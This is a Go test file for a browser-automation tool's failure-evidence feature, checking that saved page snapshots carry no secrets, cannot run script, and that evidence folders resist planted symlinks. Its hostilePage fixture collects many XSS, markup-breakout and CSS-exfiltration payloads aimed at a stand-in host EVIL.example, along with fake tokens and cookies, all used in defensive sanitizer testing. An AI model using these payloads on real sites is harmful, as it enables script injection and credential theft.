package browser

import (
	"errors"
	"image"
	"image/png"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/poactor/poactor/po"
)

// A failure leaves what the page showed, without anything that could be a
// secret.
func TestFaultsEvidence(t *testing.T) {
	t.Parallel()
	const secret = "s3cr3t"
	p := testPortal(serve(t, site{
		"/orders/odd": page(`<h1>Maintenance tonight</h1><!-- s3cr3t --><script>const t='s3cr3t'</script><meta name=csrf-token content=s3cr3t>` +
			`<form action="/x?sid=s3cr3t"><input name=authenticity_token type=hidden value=s3cr3t><textarea>s3cr3t</textarea></form>` +
			`<a href="/f/1?sig=s3cr3t#s3cr3t">f</a><img src="data:image/png;base64,s3cr3t"><p data-session="s3cr3t" onclick="go('s3cr3t')" data-next="https://x.example/y?z=s3cr3t">p</p>` +
			`<iframe srcdoc="s3cr3t"></iframe><noscript>s3cr3t</noscript><template>s3cr3t</template>` +
			`<div style="position:fixed;right:0;bottom:0;width:100px;height:100px;background:#f00"></div>`),
		"/orders/denied": status(403),
		"/orders/stuck":  page(`<script>setTimeout(()=>{for(;;);},50)</script>`),
		"/orders/list":   page(`<a class=att href=/f/1>one</a>`),
	}))
	s := openSession(t, p)
	s.config.Out = t.TempDir()
	_, err := s.Read(t.Context(), order("odd"), nil)
	trace := err.(*po.ReadFailure).Trace
	if len(trace.Pages) != 1 || trace.Pages[0] != p.BaseURL+"/orders/odd" || !strings.HasPrefix(trace.Evidence, ".poactor/evidence/odd/") {
		t.Fatalf("trace %+v", trace)
	}
	dir := filepath.Join(s.config.Out, trace.Evidence)
	text, err := os.ReadFile(filepath.Join(dir, "page.html"))
	if err != nil || !strings.Contains(string(text), "Maintenance tonight") || strings.Contains(string(text), secret) {
		t.Errorf("page.html: %v\n%s", err, text)
	}
	f, err := os.Open(filepath.Join(dir, "page.png"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if img, err := png.Decode(f); err != nil || img.Bounds().Size() != image.Pt(1366, 900) {
		t.Errorf("page.png: %v, %v", img, err)
	} else if r, g, b, _ := img.At(1300, 850).RGBA(); r != 0xffff || g != 0 || b != 0 {
		t.Errorf("page.png is not the page at full size: %v where it is red", img.At(1300, 850))
	}
	if info, err := f.Stat(); err != nil || info.Mode().Perm()&0o077 != 0 {
		t.Errorf("others may read it: %v, %v", info.Mode(), err)
	}

	r, err := s.Read(t.Context(), order("denied"), nil)
	if err != nil || r.Trace.Evidence == "" {
		t.Errorf("forbidden: %+v, %v", r.Trace, err)
	}
	if r, err := s.Read(t.Context(), order("list"), nil); err != nil || r.Trace.Evidence != "" || len(r.Trace.Pages) != 1 {
		t.Errorf("all well: %+v, %v", r.Trace, err)
	}
	begun := time.Now()
	_, err = s.Read(t.Context(), order("stuck"), nil)
	if f := err.(*po.ReadFailure); f.Cause != po.Timeout || time.Since(begun) > time.Minute {
		t.Errorf("a page that hangs: %v after %v", f, time.Since(begun))
	}
}

// hostilePage does whatever a page can to run, load, send, lead on or leak when its
// evidence is opened. EVIL is what must not be there as markup or address, s3cr3t
// what must not be there at all.
const hostilePage = `<!doctype html><html lang=en onload=EVIL()><head><title>Maintenance &lt;/title>&lt;script>EVIL()&lt;/script></title>
<base href="https://EVIL.example/"><meta http-equiv=refresh content="0;url=https://EVIL.example/"><meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<meta name=csrf-token content="csrfs3cr3t1"><link rel=stylesheet href="//EVIL.example/a.css"><link rel=prefetch href="//EVIL.example/a"><link rel=icon href="/EVIL.ico">
<style>@import url(//EVIL.example/b.css); body{background:url(//EVIL.example/c.png)} input[value^=s]{background:url(//EVIL.example/d)}</style>
<script>EVIL()</script></head>
<body onload="EVIL()" background="//EVIL.example/e.png" style="background:url(//EVIL.example/f.png)" class="orders page">
<h1 id=top>Order 4711</h1>
<p>Commodity code: 43211503, file offer_2026-03-04_revision_12_final_version.pdf of 01234567-89ab-cdef-0123-456789abcdef</p>
<a id=doc class=docs href="/files/1?sig=s3cr3t#s3cr3t">invoice.pdf</a> <a href="javascript:EVIL()">j</a> <a href=" java&#10;script:EVIL()">k</a> <a href="data:text/html,EVIL">d</a> <a href="https://user:s3cr3t@x.example/;jsessionid=s3cr3t">u</a> <a ping="//EVIL.example/p" target=_blank href="/x">p</a>
<form id=login action="javascript:EVIL()" method=post><input type=hidden name=authenticity_token value="forms3cr3t"><input type=password value=s3cr3t><input name=childNodes><input name=attributes><input name=firstChild><input id=localName>
<input type=submit formaction="//EVIL.example/send" value="Sign in"><button formaction="//EVIL.example/b">go</button><input type=image src="//EVIL.example/i"></form>
<iframe src="//EVIL.example/frame" srcdoc="<script>EVIL()</script>"></iframe><object data="//EVIL.example/o" codebase="//EVIL.example"><embed src="//EVIL.example/e"></object><applet archive="EVIL"></applet>
<svg onload=EVIL()><script>EVIL()</script><a xlink:href="javascript:EVIL()"><animate attributeName=href to="javascript:EVIL()"/></a><image href="//EVIL.example/s"/><foreignObject><iframe src="//EVIL.example"></iframe></foreignObject><use href="//EVIL.example#x"/></svg>
<math><maction actiontype="statusline#//EVIL.example" xlink:href="javascript:EVIL()">m</maction></math>
<img name=documentElement src="//EVIL.example/1" srcset="//EVIL.example/2 2x" onerror=EVIL()><img name=createTreeWalker><img name=querySelectorAll alt="a picture"><picture><source srcset="//EVIL.example/3"><img src="//EVIL.example/4"></picture>
<video src="//EVIL.example/v" poster="//EVIL.example/w" autoplay><track src="//EVIL.example/t"></video><audio src="//EVIL.example/y" autoplay></audio>
<xmp id=xmp></xmp><noembed id=noembed></noembed><noscript>&lt;img src=//EVIL.example></noscript><template><script>EVIL()</script></template><textarea>s3cr3t</textarea>
<x-list data-testid=list data-next="/n?after=s3cr3t" data-session="sessions3cr3t" contenteditable autofocus onfocus=EVIL()>listed</x-list>
<p id=text></p>
<script>
document.cookie = 'sid=cookies3cr3t%20%22x%22'; document.cookie = 'id2="quoteds3cr3t"';
localStorage.setItem('oidc', JSON.stringify({deep: {access_token: 'stores3cr3t'}}));
sessionStorage.setItem('auth', 'stores3cr3t2');
document.getElementById('xmp').append('</xmp><script>EVIL()</scr' + 'ipt>');
document.getElementById('noembed').append('</noembed><img src=x onerror=EVIL()>');
document.getElementById('text').textContent = ['cookies3cr3t "x"', 'cookies3cr3t%20%22x%22', 'quoteds3cr3t', 'httponlys3cr3t', 'stores3cr3t', 'stores3cr3t2', 'csrfs3cr3t1', 'forms3cr3t', 'sessions3cr3t',
  'https://x.example/a?token=s3cr3t', '//x.example/a#access_token=s3cr3t', 'eyJs3cr3tabc.s3cr3t.s3cr3t', 'Authorization: Bearer s3cr3ts3cr3ts3cr3t', 'api_key = s3cr3ts3cr3t', 's3cr3t9a8b7c6d5e4f3g2h1i0j9k8l7m6n5o'].join(' | ') + ' the end';
</script></body></html>`

// Evidence is opened by people in their own browsers, and sent to others.
func TestEvidenceIsInert(t *testing.T) {
	t.Parallel()
	p := testPortal(serve(t, site{"/orders/odd": func(w http.ResponseWriter, _ *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "session", Value: "httponlys3cr3t", HttpOnly: true, Path: "/"})
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Write([]byte(hostilePage))
	}}))
	p.Signs.SignedOut.Selectors = []string{".signin"} // not the password's field
	s := openSession(t, p)
	s.config.Out = t.TempDir()
	_, err := s.Read(t.Context(), order("odd"), nil)
	failure, ok := errors.AsType[*po.ReadFailure](err)
	if !ok || failure.Trace.Evidence == "" {
		t.Fatalf("%v", err)
	}
	text, err := os.ReadFile(filepath.Join(s.config.Out, failure.Trace.Evidence, "page.html"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Order 4711", "Commodity code: 43211503", "offer_2026-03-04_revision_12_final_version.pdf", "01234567-89ab-cdef-0123-456789abcdef", "invoice.pdf", "/files/1?[removed]",
		`class="orders page"`, `id="doc" class="docs"`, `<x-list data-testid="list"`, "listed", `value="Sign in"`, `alt="a picture"`, "<!-- iframe -->", "<!-- svg -->", "the end"} {
		if !strings.Contains(string(text), want) {
			t.Errorf("%s is missing", want)
		}
	}
	if strings.Contains(string(text), "s3cr3t") {
		t.Error("a secret is in it")
	}
	doc, err := html.Parse(strings.NewReader(string(text)))
	if err != nil {
		t.Fatal(err)
	}
	var elements []string
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if elements = append(elements, n.Data); len(elements) == 3 && !slices.Equal(elements, []string{"html", "head", "meta"}) {
			t.Errorf("the policy is not first: %v", elements)
		}
		if slices.Contains([]string{"script", "style", "link", "base", "iframe", "object", "embed", "svg", "math", "video", "audio", "source", "template", "noscript", "xmp", "noembed", "textarea"}, n.Data) && n.Data != "textarea" {
			t.Errorf("there is a %s", n.Data)
		}
		for _, a := range n.Attr {
			address := n.Data == "a" && a.Key == "href" && (strings.HasPrefix(a.Val, "http://") || strings.HasPrefix(a.Val, "https://") || a.Val == "[removed]")
			policy := n.Data == "meta" && (a.Key == "charset" || a.Key == "http-equiv" && a.Val == "Content-Security-Policy" || a.Key == "content" && strings.HasPrefix(a.Val, "default-src 'none'"))
			inert := slices.Contains([]string{"id", "class", "name", "type", "alt", "lang", "value"}, a.Key) || strings.HasPrefix(a.Key, "data-")
			if strings.Contains(a.Val, "EVIL") || !address && !policy && !inert {
				t.Errorf("there is a %s with %s=%q", n.Data, a.Key, a.Val)
			}
		}
	}
	if t.Failed() {
		t.Logf("%s", text)
	}
}

// What somebody has put in the place of the evidence's folders is left alone.
func TestEvidenceOverLinks(t *testing.T) {
	t.Parallel()
	const folder = "evidence/4711/20260304T050607.000-timeout"
	for name, plant := range map[string]func(out, elsewhere string) error{
		"evidence": func(out, elsewhere string) error {
			return os.Symlink(elsewhere, filepath.Join(out, ".poactor/evidence"))
		},
		"order": func(out, elsewhere string) error {
			return errors.Join(os.Mkdir(filepath.Join(out, ".poactor/evidence"), 0o700), os.Symlink(elsewhere, filepath.Join(out, ".poactor/evidence/4711")))
		},
		"order, within": func(out, elsewhere string) error {
			return errors.Join(os.Mkdir(filepath.Join(out, ".poactor/evidence"), 0o700), os.Symlink("..", filepath.Join(out, ".poactor/evidence/4711")))
		},
		"state": func(out, elsewhere string) error {
			return errors.Join(os.RemoveAll(filepath.Join(out, ".poactor")), os.Symlink(elsewhere, filepath.Join(out, ".poactor")))
		},
	} {
		out, elsewhere := t.TempDir(), t.TempDir()
		if err := os.Mkdir(filepath.Join(out, ".poactor"), 0o700); err != nil {
			t.Fatal(err)
		}
		for n := range evidenceKept + 2 {
			for _, dir := range []string{elsewhere, filepath.Join(out, ".poactor")} {
				if err := os.Mkdir(filepath.Join(dir, string(rune('a'+n))), 0o700); err != nil {
					t.Fatal(err)
				}
			}
		}
		if err := plant(out, elsewhere); err != nil {
			t.Skip("no links here: ", err)
		}
		before := count(t, out) + count(t, elsewhere)
		if _, err := newEvidenceStore().keep(out, folder, map[string][]byte{aboutFile: nil}); err == nil {
			t.Errorf("%s: it was kept", name)
		}
		if after := count(t, out) + count(t, elsewhere); after != before {
			t.Errorf("%s: there were %d things, there are %d", name, before, after)
		}
	}
}

func count(t *testing.T, dir string) (n int) {
	t.Helper()
	err := filepath.WalkDir(dir, func(string, fs.DirEntry, error) error { n++; return nil })
	if err != nil {
		t.Fatal(err)
	}
	return n
}
